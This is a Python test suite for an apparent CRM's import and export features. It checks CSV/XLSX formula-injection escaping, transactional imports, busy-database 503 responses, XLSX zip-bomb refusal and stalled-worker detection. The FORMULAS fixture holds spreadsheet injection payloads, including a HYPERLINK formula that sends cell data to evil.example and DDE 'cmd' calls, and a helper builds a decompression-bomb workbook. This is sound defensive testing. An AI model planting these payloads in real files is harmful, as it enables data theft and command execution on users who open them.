"""Imports and exports as an attacker tries them, on SQLite and PostgreSQL.

- A salesperson's text that a spreadsheet would run as a formula reaches the
  manager's CSV and XLSX exports as text, and imports back unchanged.
- A 50,000-row check does not keep other users' saves waiting; a big real
  import that fails leaves the database as it was.
- A database busy with another writer answers 503 with Retry-After, never 500.
- An XLSX file that unpacks to hundreds of megabytes is refused at once, in
  little memory.
- A background import whose worker stopped shows as stalled at once.
"""

from __future__ import annotations

import csv
import io
import threading
import time
import tracemalloc
import zipfile

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import event, func, select

from engine.cli import main
from engine.context import FixedClock
from engine.services.dataio.importing import Importer
from engine.services.dataio.importing.queue import REQUEST_ROWS, STALLED_AFTER, ImportQueue
from engine.services.dataio.importing.xlsx_limits import MAX_CELL
from engine.web import create_app
from tests.api_support import NOW, PASSWORD, api_for
from tests.support import open_migrated, write_pack, write_site
from tests.web_support import login, post

PACK = {
    "entities/account.yaml": """
        entity: account
        title_field: name
        label: {en: Account, zh: 客户}
        plural: {en: Accounts, zh: 客户}
        fields:
          name: {type: string, required: true, max_length: 200, label: {en: Name, zh: 名称}}
          code: {type: string, unique: true, max_length: 200, label: {en: Code, zh: 代码}}
          budget: {type: decimal, precision: 12, scale: 2, label: {en: Budget, zh: 预算}}
          note: {type: text, label: {en: Note, zh: 备注}}
    """,
    "entities/contact.yaml": """
        entity: contact
        title_field: name
        label: {en: Contact, zh: 联系人}
        fields:
          name: {type: string, required: true, label: {en: Name, zh: 姓名}}
          account: {type: reference, to: account, label: {en: Account, zh: 客户}}
    """,
    "roles.yaml": """
        roles:
          boss:
            label: Boss
            entities:
              "*": {rights: all, scope: all}
          sales:
            label: Sales
            entities:
              "*": {rights: [read, create, update, import], scope: own}
    """,
}
#: What a salesperson types as a name, a code or a note (OWASP's examples, and the others).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.fixture
def site(tmp_path, db_url):
    write_pack(tmp_path / "packs", "shop", PACK)
    root = write_site(tmp_path / "site", db_url, ["shop"], pack_paths=["../packs"])
    opened = open_migrated(root, clock=FixedClock(NOW))
    opened.users.create("admin", password=PASSWORD, roles=["boss"], is_admin=True)
    opened.users.create("rep", password=PASSWORD, roles=["sales"])
    yield opened
    opened.close()


def rows_of(site, entity: str = "account") -> list[dict]:
    table = site.schema.table(entity)
    with site.engine.connect() as conn:
        return [dict(r) for r in conn.execute(select(table).order_by(table.c.id)).mappings()]


def count(site, entity: str = "account") -> int:
    with site.engine.connect() as conn:
        return conn.execute(select(func.count()).select_from(site.schema.table(entity))).scalar()


def seed_formulas(site) -> list[int]:
    rep = site.users.actor("rep")
    ids = []
    for index, formula in enumerate(FORMULAS):
        made = site.records.create(rep, "account", {
            "name": formula, "code": f"{formula}#{index}", "budget": "-5", "note": "-5"})
        site.records.create(rep, "contact", {"name": f"Contact {index}", "account": made["id"]})
        ids.append(made["id"])
    return ids


# -- formula injection -------------------------------------------------------------------


def test_exports_write_formula_text_as_text_and_import_it_back_unchanged(site):
    seed_formulas(site)
    before = rows_of(site)
    manager = api_for(site, "admin")

    answer = manager.get("/account/export?format=csv&keys=1")
    assert answer.status_code == 200
    table = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"),
                                        newline="")))
    header, body = table[0], table[1:]
    name, code, budget, note = (header.index(k) for k in ("name", "code", "budget", "note"))
    names = [r["name"] for r in before]  # as saved (a leading tab or CR trimmed by the form)
    assert all(n[:1] in "=+-@'" for n in names)
    assert [row[name] for row in body] == ["'" + n for n in names]
    assert [row[code] for row in body] == ["'" + r["code"] for r in before]
    # a number stays a number; a text that is only a number is no formula either
    assert {row[budget] for row in body} == {"-5.00"} and {row[note] for row in body} == {"-5"}
    # a reference written by its target's title is text like any other
    contacts = list(csv.reader(io.StringIO(manager.get("/contact/export?format=csv&keys=1")
                                           .get_data(as_text=True).lstrip("\ufeff"))))
    column = contacts[0].index("account")
    assert [row[column] for row in contacts[1:]] == ["'" + n for n in names]

    answer = manager.get("/account/export?format=xlsx&keys=1")
    sheet = load_workbook(io.BytesIO(answer.get_data())).worksheets[0]
    cells = {c.value: i for i, c in enumerate(sheet[1])}
    for row, saved in zip(sheet.iter_rows(min_row=2), names, strict=True):
        assert row[cells["name"]].data_type == "s" and row[cells["name"]].value == saved
        assert row[cells["code"]].data_type == "s"
        assert row[cells["budget"]].data_type == "n" and row[cells["budget"]].value == -5
    raw = zipfile.ZipFile(io.BytesIO(answer.get_data())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw  # no formula anywhere in the file

    # Both files import back as they are: matched on the code, nothing changes
    importer = Importer(site.records)
    admin = site.users.actor("admin")
    for data, name in ((manager.get("/account/export?format=csv").get_data(), "a.csv"),
                       (manager.get("/account/export?format=xlsx").get_data(), "a.xlsx")):
        report = importer.run(admin, "account", data, name, upsert_on="code")
        assert report.ok and report.updated == len(FORMULAS) and report.created == 0, report
        assert rows_of(site) == before

    # the refused rows' file quotes them too, and a fixed one imports as typed
    bad = io.StringIO()
    csv.writer(bad).writerows([["Name", "Code", "Budget"], [FORMULAS[0], "X-1", "lots"]])
    report = importer.run(admin, "account", bad.getvalue().encode(), "bad.csv")
    rejected = report.rejected_csv()
    assert "'=HYPERLINK" in rejected and not any(
        cell.startswith("=") for line in csv.reader(io.StringIO(rejected)) for cell in line)
    fixed = rejected.replace("lots", "12")
    assert importer.run(admin, "account", fixed.encode(), "fixed.csv",
                        mapping={"line": None, "errors": None}).created == 1
    assert rows_of(site)[-1]["name"] == FORMULAS[0]


def test_the_cli_export_quotes_formulas_too(site, tmp_path):
    seed_formulas(site)
    target = tmp_path / "accounts.csv"
    done = CliRunner().invoke(main, ["--site", str(site.config.root), "export", "account",
                                     "--keys", "-o", str(target), "--as", "admin"])
    assert done.exit_code == 0, done.output
    lines = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"), newline="")))
    assert [r[lines[0].index("name")] for r in lines[1:]] == [
        "'" + r["name"] for r in rows_of(site)]


# -- SQLite's one writer -------------------------------------------------------------------


def big_file(rows: int) -> bytes:
    return ("Name,Code,Budget\n" + "".join(
        f"Account {i},K-{i},{i % 1000}\n" for i in range(rows))).encode()


def test_other_users_save_while_a_50000_row_file_is_checked(site):
    """Threads: a salesperson saves every 50 ms while the manager checks a big file."""
    rows = 50_000 if site.engine.dialect.name == "sqlite" else 10_000
    admin, rep = site.users.actor("admin"), site.users.actor("rep")
    waits: list[float] = []
    failures: list[BaseException] = []
    checking = threading.Event()

    def salesperson() -> None:
        number = 0
        while checking.is_set():
            began = time.monotonic()
            try:
                site.records.create(rep, "account", {"name": f"Saved {number}"})
            except BaseException as exc:  # noqa: BLE001 - every failure is the test's finding
                failures.append(exc)
            waits.append(time.monotonic() - began)
            number += 1
            time.sleep(0.05)

    checking.set()
    thread = threading.Thread(target=salesperson)
    thread.start()
    try:
        report = Importer(site.records).run(admin, "account", big_file(rows), "big.csv",
                                            dry_run=True)
    finally:
        checking.clear()
        thread.join()
    assert report.ok and report.rows == rows and report.created == rows and not report.written
    assert failures == []
    assert waits  # saves ran during the check (how many depends on how fast it reads)
    # That no save waits on the check's lock is shown without timing, by the barrier test
    # in test_import_check_reads.py; here: every save went through, none failed.
    assert count(site) == len(waits)  # the saves, and nothing of the check


class Boom(Exception):
    pass


def test_a_file_of_many_batches_is_still_all_or_nothing(site):
    """A file of many batches is written in one transaction: nothing of a refused or
    failing import stays."""
    admin = site.users.actor("admin")
    importer = Importer(site.records, batch_size=10)

    # refused rows in all-or-nothing mode: nothing written
    data = big_file(45).decode().replace("Account 44,", ",").encode()
    report = importer.run(admin, "account", data, "a.csv")
    assert not report.written and report.rejected == 1 and count(site) == 0
    assert report.created == 44  # what the check found it would create

    # a clean file, failing just before it commits: nothing is left either
    def fail(conn, report) -> None:
        raise Boom

    with pytest.raises(Boom):
        importer.run(admin, "account", big_file(45), "a.csv", before_commit=fail)
    assert count(site) == 0
    # and a clean one is written whole
    report = importer.run(admin, "account", big_file(45), "a.csv")
    assert report.written and report.created == 45 and count(site) == 45


def test_an_api_import_in_the_request_has_a_row_cap(site):
    rep = api_for(site, "rep")
    body = {"file": (io.BytesIO(big_file(REQUEST_ROWS + 1)), "big.csv")}
    answer = rep.call("POST", "/account/import", data=body, content_type="multipart/form-data")
    assert answer.status_code == 422
    problem = answer.get_json()
    assert problem["code"] == "import_refused"
    assert "background=true" in problem["report"]["file_errors"][0]
    assert count(site) == 0
    body = {"file": (io.BytesIO(big_file(REQUEST_ROWS + 1)), "big.csv"), "background": "true"}
    assert rep.call("POST", "/account/import", data=body,
                    content_type="multipart/form-data").status_code == 202


# -- a busy database ------------------------------------------------------------------------


@pytest.fixture
def clients(site):
    """An API client and a signed-in browser, made before the database is locked."""
    web = create_app(site, testing=True).test_client()
    login(web, "admin", PASSWORD)
    return api_for(site, "admin"), web


@pytest.fixture
def locked(site, clients):
    """Another connection holds the write lock on accounts; this site waits 0.2 s for it."""
    engine = site.engine
    postgres = engine.dialect.name == "postgresql"

    @event.listens_for(engine, "connect")
    def impatient(dbapi_connection, _record) -> None:
        cursor = dbapi_connection.cursor()
        cursor.execute("SET lock_timeout = 200" if postgres else "PRAGMA busy_timeout=200")
        cursor.close()
        if postgres:
            dbapi_connection.commit()

    engine.dispose()
    holder = engine.connect().execution_options(crm_write=True)
    holder.begin()  # SQLite: BEGIN IMMEDIATE, the write lock
    if postgres:
        holder.exec_driver_sql(
            f'LOCK TABLE "{site.schema.table("account").name}" IN EXCLUSIVE MODE')
    yield clients
    holder.rollback()
    holder.close()
    event.remove(engine, "connect", impatient)
    engine.dispose()


def test_a_busy_database_answers_503_with_retry_after(site, locked):
    api, web = locked
    answer = api.post("/account", json={"name": "Blocked"})
    assert answer.status_code == 503, answer.get_data(as_text=True)
    assert answer.headers["Retry-After"] == "5"
    problem = answer.get_json()
    assert problem["code"] == "database_busy" and "try again" in problem["detail"]
    # reading still works, the token's "last used" note waiting for a quieter moment
    assert api.get("/account").status_code == 200
    page = post(web, "/r/account/new", {"name": "Blocked"})
    assert page.status_code == 503 and page.headers["Retry-After"] == "5"
    assert "try again" in page.get_data(as_text=True)
    assert "Traceback" not in page.get_data(as_text=True)
    body = {"file": (io.BytesIO(big_file(3)), "a.csv")}
    answer = api.call("POST", "/account/import", data=body, content_type="multipart/form-data")
    assert answer.status_code == 503 and answer.headers["Retry-After"] == "5"


def test_the_busy_error_is_recognised_from_each_driver():
    import sqlite3

    from sqlalchemy.exc import OperationalError

    from engine.errors import DatabaseBusy

    locked = OperationalError("INSERT", {}, sqlite3.OperationalError("database is locked"))
    assert isinstance(DatabaseBusy.from_exception(locked), DatabaseBusy)

    class PgError(Exception):
        sqlstate = "55P03"

    assert DatabaseBusy.from_exception(OperationalError("UPDATE", {}, PgError())) is not None
    other = OperationalError("SELECT", {}, sqlite3.OperationalError("no such table: x"))
    assert DatabaseBusy.from_exception(other) is None
    assert DatabaseBusy.from_exception(ValueError("database is locked")) is None


# -- XLSX that unpacks without limit ----------------------------------------------------------


def one_cell_xlsx(cell_bytes: int) -> bytes:
    """A workbook whose one cell holds ``cell_bytes`` letters, written without holding them."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'))
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                        b'2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>')
            block = b"A" * (1024 * 1024)
            for _ in range(cell_bytes // len(block)):
                sheet.write(block)
            sheet.write(b"A" * (cell_bytes % len(block)))
            sheet.write(b"</t></is></c></row></sheetData></worksheet>")
    return out.getvalue()


@pytest.mark.parametrize("cell_mib, says", [(300, "unpacks to 300 MB"),
                                            (1, "longer than 256 KB")])
def test_an_xlsx_bomb_is_refused_at_once_in_little_memory(site, cell_mib, says):
    bomb = one_cell_xlsx(cell_mib * 1024 * 1024)
    assert len(bomb) < 400 * 1024
    admin = site.users.actor("admin")
    tracemalloc.start()
    began = time.monotonic()
    try:
        report = Importer(site.records).run(admin, "account", bomb, "bomb.xlsx", dry_run=True)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    took = time.monotonic() - began
    assert len(report.file_errors) == 1 and says in report.file_errors[0], report.file_errors
    assert peak < 8 * 1024 * 1024, peak  # the file itself and a megabyte-long chunk at most
    assert took < 5, took
    assert count(site) == 0
    # the API says so as a refused import, never a 500
    body = {"file": (io.BytesIO(bomb), "bomb.xlsx")}
    answer = api_for(site, "admin").call("POST", "/account/import", data=body,
                                         content_type="multipart/form-data")
    assert answer.status_code == 422 and says in answer.get_json()["report"]["file_errors"][0]


def test_a_long_cell_within_a_spreadsheets_limit_is_read():
    from engine.services.dataio.importing.readers import read_sheet

    cell = "字" * 32_767  # Excel's longest cell, three bytes a character in UTF-8
    assert len(cell.encode()) < MAX_CELL
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["Name"])
    book.active.append([cell])
    out = io.BytesIO()
    book.save(out)
    sheet = read_sheet(out.getvalue(), "a.xlsx")
    assert list(sheet.rows) == [(2, [cell])]


# -- stalled background imports -----------------------------------------------------------------


def test_a_run_whose_worker_stopped_shows_as_stalled_at_once(site, tmp_path):
    rep = site.users.actor("rep")
    queue = ImportQueue.for_site(site, heartbeat_every=0.05)
    run = queue.enqueue(rep, "account", big_file(3), "a.csv")
    claimed = queue.claim("w1")
    assert claimed.id == run.id and queue.get(rep, run.id).shown_status == "running"

    # while the worker lives, its heartbeat thread keeps the run from looking stalled
    from engine.services.dataio.importing.queue import _Heartbeat, _Progress

    with _Heartbeat(_Progress(queue, run.id, "w1"), 0.05):
        site.clock.advance(seconds=STALLED_AFTER.total_seconds() + 1)
        deadline = time.monotonic() + 5
        while queue.get(rep, run.id).stalled and time.monotonic() < deadline:
            time.sleep(0.05)
        assert queue.get(rep, run.id).shown_status == "running"

    # the worker dies: no beat for three intervals and the run says so, everywhere
    site.clock.advance(seconds=STALLED_AFTER.total_seconds() + 1)
    shown = queue.get(rep, run.id)
    assert shown.status == "running" and shown.stalled and shown.shown_status == "stalled"
    assert shown.to_dict()["status"] == "stalled" and shown.to_dict()["stalled"] is True

    api = api_for(site, "rep")
    assert api.get(f"/imports/{run.id}").get_json()["status"] == "stalled"

    web = create_app(site, testing=True).test_client()
    login(web, "rep", PASSWORD)
    status = web.get(f"/r/account/imports/{run.id}/status").get_json()
    assert status["status"] == "stalled" and "Stalled" in status["text"]
    assert "Stalled" in web.get(f"/r/account/imports/{run.id}").get_data(as_text=True)

    runner = CliRunner()
    root = str(site.config.root)
    shown = runner.invoke(main, ["--site", root, "imports", str(run.id), "--as", "rep"])
    assert shown.exit_code == 0 and "stalled" in shown.output
    listed = runner.invoke(main, ["--site", root, "imports", "--as", "rep"])
    assert "stalled" in listed.output
    assert count(site) == 0


def test_a_worker_that_finds_the_database_busy_fails_the_run_saying_so(site, monkeypatch):
    import sqlite3

    from sqlalchemy.exc import OperationalError

    rep = site.users.actor("rep")
    queue = ImportQueue.for_site(site)
    run = queue.enqueue(rep, "account", big_file(3), "a.csv")

    def busy(*args, **kwargs):
        raise OperationalError("INSERT", {}, sqlite3.OperationalError("database is locked"))

    monkeypatch.setattr(Importer, "run", busy)
    done = queue.execute(queue.claim("w1"), "w1")
    assert done.id == run.id and done.status == "failed"
    assert done.error.startswith("The database stayed busy") and "nothing was written" in done.error
    assert count(site) == 0
